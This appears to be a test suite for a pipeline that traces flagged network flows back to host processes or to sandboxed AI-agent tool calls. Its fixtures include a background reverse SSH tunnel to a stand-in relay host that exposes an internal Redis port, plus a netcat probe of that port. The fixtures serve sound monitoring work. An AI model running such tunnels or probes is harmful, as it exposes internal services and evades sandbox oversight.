import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import type { Attribution } from '../../../src/model/attribution.ts';
import { investigate } from '../../../src/pipeline.ts';
import { audit, LEASE } from '../one-sandbox.ts';

const folder = mkdtempSync(join(tmpdir(), 'owners-'));
afterAll(() => rmSync(folder, { recursive: true }));

const COMMAND = 'nohup ssh -N -R 41011:10.77.0.6:6379 tun@relay.example >/dev/null 2>&1 &';
const CALL = {
  episode_id: 'ep-1',
  sandbox_id: 'sb-1',
  tool: 'bash',
  tool_call_id: 'call-1',
  command: COMMAND,
  start: '2026-11-23T17:00:01.000Z',
  end: '2026-11-23T17:00:02.000Z',
};
/** Put right by hand: two logs of a few lines have too few pairs. */
const CLOCKS = new Map([
  ['fast.log', 0],
  ['train-01-audit.log', 0],
]);
const AT = 1_795_453_264;

/** Who is blamed for a flow at `AT` from the address that all on the host share, by what its audit log tells. */
async function blameBy(
  name: string,
  told: readonly (readonly string[])[],
  sandboxes: readonly { readonly lease: object; readonly call: object }[] = [{ lease: LEASE, call: CALL }],
): Promise<Attribution> {
  mkdirSync(join(folder, name));
  const rows = {
    'leases.jsonl': sandboxes.map(({ lease }) => JSON.stringify(lease)),
    'tool_calls.jsonl': sandboxes.map(({ call }) => JSON.stringify(call)),
    'fast.log': [
      '11/23/2026-17:01:04.002000  [**] [1:9000009:1] SCAN connection attempts to internal services [**] [Classification: Leak] [Priority: 2] {TCP} 10.70.0.11:59006 -> 10.77.0.6:6379',
    ],
    'train-01-audit.log': told.flat(),
  };
  for (const [file, lines] of Object.entries(rows)) writeFileSync(join(folder, name, file), `${lines.join('\n')}\n`);
  const { attributions } = await investigate({ paths: [join(folder, name)], cwd: folder, clockOffsets: CLOCKS });
  expect(attributions).toHaveLength(1);
  return attributions[0] as Attribution;
}

const TUNNEL_BEGINS = audit({ at: AT - 62.9, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] });
const HOST_BEGINS = audit({ at: AT - 0.1, pid: 400, ppid: 50, uid: 20_101, args: ['nc', '10.77.0.6', '6379'] });

/** The host's own collector, and the tunnel that a call left behind long ago, connect to one place. */
function blame(name: string, times: { readonly host: number; readonly tunnel: number }): Promise<Attribution> {
  return blameBy(name, [
    TUNNEL_BEGINS,
    HOST_BEGINS,
    audit({ at: AT + times.host, pid: 400, ppid: 50, uid: 20_101 }),
    audit({ at: AT + times.tunnel, pid: 300, ppid: 100, uid: 20_004 }),
  ]);
}

it('takes the host process that connected at the moment, not the one in a sandbox that did later', async () => {
  const answer = await blame('host', { host: 0, tunnel: 0.3 });
  expect(answer.process?.pid ?? answer.candidates[0]?.process?.pid).toBe(400);
  expect(answer.episode).toBeUndefined();
});

it('takes the process that connected at the moment, not one that names the place and did so later', async () => {
  const answer = await blame('tunnel', { host: 0.3, tunnel: 0 });
  expect(answer).toMatchObject({ process: { pid: 300 }, toolCall: { id: 'call-1' } });
});

it('does not clear the agent for a host process that names the place and connected at another time', async () => {
  const answer = await blame('elsewhere', { host: 5, tunnel: 9 });
  expect(answer.process?.pid).not.toBe(400);
  expect(answer.verdict).not.toBe('not-agent');
});

it('clears no process that connected to the place at the same moment for what another has in its arguments', async () => {
  const command = 'python3 work.py';
  const begun = audit({ at: AT - 62.9, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', command] });
  const connects = [400, 300].map((pid) =>
    audit(pid === 400 ? { at: AT, pid, ppid: 50, uid: 20_101 } : { at: AT, pid, ppid: 100, uid: 20_004 }),
  );
  const call = { ...CALL, command };
  const answer = await blameBy('both', [begun, HOST_BEGINS, ...connects], [{ lease: LEASE, call }]);
  expect(answer.verdict).toBe('ambiguous');
  expect(answer.candidates.map(({ process }) => process?.pid)).toEqual(expect.arrayContaining([300, 400]));
});

/** A second sandbox of the host, whose call asks the same place at the moment of the flow. */
const OTHER = {
  lease: { ...LEASE, sandbox_id: 'sb-2', ip: '10.66.1.6', uid: 20_005, envd_pid: 101, episode_id: 'ep-2' },
  call: {
    ...CALL,
    episode_id: 'ep-2',
    sandbox_id: 'sb-2',
    tool_call_id: 'call-2',
    command: 'nc -z 10.77.0.6 6379',
    start: '2026-11-23T17:01:03.000Z',
    end: '2026-11-23T17:01:05.000Z',
  },
};
const BOTH = [
  { lease: LEASE, call: { ...CALL, start: '2026-11-23T17:01:01.900Z', end: '2026-11-23T17:01:04.500Z' } },
  OTHER,
];
const ownSocket = (at: number): readonly string[] => audit({ at, pid: 300, ppid: 100, uid: 20_004 });

it('blames nobody for having been started with the destination alone: another call names it as well', async () => {
  const begun = audit({ at: AT - 2, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] });
  const answer = await blameBy('named', [begun], BOTH);
  expect(answer.verdict).toBe('ambiguous');
  expect(answer.candidates.map(({ toolCall }) => toolCall?.id)).toEqual(expect.arrayContaining(['call-1', 'call-2']));
});

it('blames nobody for a connect that is none of the moment: that of another call may have left no record', async () => {
  const begun = audit({ at: AT - 2, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] });
  expect((await blameBy('apart', [begun, ownSocket(AT - 1.5)], BOTH)).verdict).toBe('ambiguous');
  expect((await blameBy('at-once', [begun, ownSocket(AT)], BOTH)).toolCall?.id).toBe('call-1');
});

it('clears nobody for a host process that names the destination and has no connect on record', async () => {
  const answer = await blameBy('cleared', [HOST_BEGINS, ownSocket(AT - 70)]);
  expect(answer.verdict).not.toBe('not-agent');
});
